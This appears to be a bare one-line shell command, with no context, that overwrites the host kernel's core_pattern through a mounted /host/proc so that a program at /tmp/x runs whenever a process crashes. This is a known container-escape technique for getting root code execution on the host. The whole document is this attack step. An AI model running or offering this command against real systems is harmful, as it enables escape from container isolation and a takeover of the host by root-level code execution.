echo "|/tmp/x %P" > /host/proc/sys/kernel/core_pattern
